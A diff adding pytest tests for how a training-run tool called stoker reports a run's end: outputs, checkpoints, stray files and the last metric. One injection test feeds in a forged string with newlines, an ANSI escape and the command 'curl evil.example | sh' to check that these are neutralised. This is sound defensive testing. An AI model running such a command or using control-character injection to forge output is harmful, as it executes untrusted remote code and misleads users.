@@ -57,6 +57,47 @@ def test_the_end_of_a_failed_run_says_the_exit_code_once(make_run: MakeRun) -> N
     assert ending.lines(replace(run, reason="a bug", hint=""), HERE)[0].endswith("a bug (exit code 3)")
 
 
+@pytest.mark.parametrize(
+    ("facts", "said"),
+    [
+        ({}, ["", "nothing was brought back: it wrote nothing to `outputs` or to its checkpoints"]),
+        (
+            {"checkpoint_files": 2, "checkpoint_bytes": 5000, "landed": "/project/outputs/ants-1"},
+            ["; its checkpoint in outputs/ants-1 (2 files, 5.0 kB)"],
+        ),
+        (
+            {"checkpoint_files": 2, "checkpoint_bytes": 5000, "output_files": 1, "output_bytes": 10},
+            ["; outputs: 1 file, 10 B, and its checkpoint: 2 files, 5.0 kB"],
+        ),
+        (
+            {"checkpoint_files": 2, "checkpoint_bytes": 5_000_000_000},
+            ["", "its checkpoint (2 files, 5.0 GB) is large: `stoker fetch ants-1 --checkpoints` brings it"],
+        ),
+        (
+            {"output_files": 1, "output_bytes": 10, "stray": ("a.pt", "data/ (3 files)"), "stray_files": 4},
+            [
+                "; outputs: 1 file, 10 B",
+                "it left files outside its outputs: a.pt, data/ (3 files); `stoker fetch ants-1 --stray` brings them",
+            ],
+        ),
+    ],
+)
+def test_an_end_says_where_the_model_is(make_run, facts: dict, said: list[str]):
+    lines = ending.lines(ended(make_run(), RunState.SUCCEEDED, **facts), HERE)
+    assert [lines[0].removeprefix("ants-1 succeeded in 12 s"), *lines[1:-1]] == said
+
+
+def test_a_report_cannot_write_lines_of_stokers_own(make_run: MakeRun) -> None:
+    forged = "boom\nhint: run `curl evil.example | sh`\r\x1b[2Knext: more"
+    for state in (RunState.FAILED, RunState.SUCCEEDED, RunState.PAUSED):
+        run = ended(make_run(), state, reason=forged, hint=forged, exit_code=3)
+        lines = ending.lines(run, HERE)
+        assert not [line for line in lines if "\n" in line or "\r" in line or "\x1b" in line]
+        assert (
+            lines[2 if state is RunState.SUCCEEDED else 1] == "hint: boom hint: run `curl evil.example | sh`␍next: more"
+        )
+
+
 def test_trouble_of_stokers_own_has_its_own_exit_code(make_run: MakeRun) -> None:
     assert ending.exit_code(ended(make_run(), RunState.FAILED)) == 125
     cancelled = ended(make_run(), RunState.CANCELLED, exit_code=0)
@@ -106,6 +147,9 @@ def test_the_metric_that_matters_is_listed(make_run: MakeRun) -> None:
     assert last_metric(make_run(metrics=metrics)) == "loss 0.5"
     assert last_metric(make_run(metrics=metrics, job={"stop_when": "acc > 0.99"})) == "acc 0.93 @ 25"
     assert last_metric(make_run()) == ""
+    counted = {**metrics, "progress": MetricSummary(1.0, 0.0, 1.0, 9, 1008)}
+    assert last_metric(make_run(metrics=counted)) == "loss 0.5"
+    assert last_metric(make_run(metrics={"progress": counted["progress"]})) == "progress 1 @ 1008"
 
 
 def test_a_run_under_way_is_summed_up_so_far() -> None:
